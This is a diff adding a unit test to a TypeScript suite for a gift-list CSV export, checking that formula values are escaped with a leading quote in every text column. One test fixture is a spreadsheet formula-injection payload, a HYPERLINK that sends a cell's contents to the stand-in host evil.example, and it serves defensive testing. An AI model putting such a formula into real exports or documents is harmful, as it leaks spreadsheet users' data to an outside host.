@@ -74,6 +74,20 @@ describe('receivedGiftsCsv (issue 24)', () => {
     expect(rows.map((row) => row[2])).toEqual(['89,90', '89,90', '89,90', '89,90']);
   });
 
+  it('escapes a formula that spans lines, in every text column (a message, a name, a store, a gift)', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?d="&A2;"Clique")\n+0';
+    const tabbed = '\t=1+1\r\nfim';
+    const gifts: ReceivedGift[] = [
+      { ...formula, id: 1, presente: evil, nome: evil, email: evil, mensagem: evil, loja: evil, pedido: evil },
+      { ...formula, id: 2, presente: tabbed, nome: tabbed, email: tabbed, mensagem: tabbed, loja: tabbed, pedido: tabbed },
+    ];
+    const rows = parse(await receivedGiftsCsv(gifts)).slice(1);
+    for (const [row, value] of [[rows[0]!, evil], [rows[1]!, tabbed]] as const) {
+      // Presente, Quem presenteou, E-mail, Mensagem, Canal (the store's name), Pedido
+      for (const column of [0, 3, 4, 5, 6, 7]) expect(row[column]).toBe(`'${value}`);
+    }
+  });
+
   it('names a store gift without a store "Loja" and keeps the header when there is no gift', async () => {
     expect(parse(await receivedGiftsCsv([{ ...formula, loja: null }]))[1]?.[6]).toBe('Loja');
     expect(parse(await receivedGiftsCsv([]))).toEqual([HEADER]);
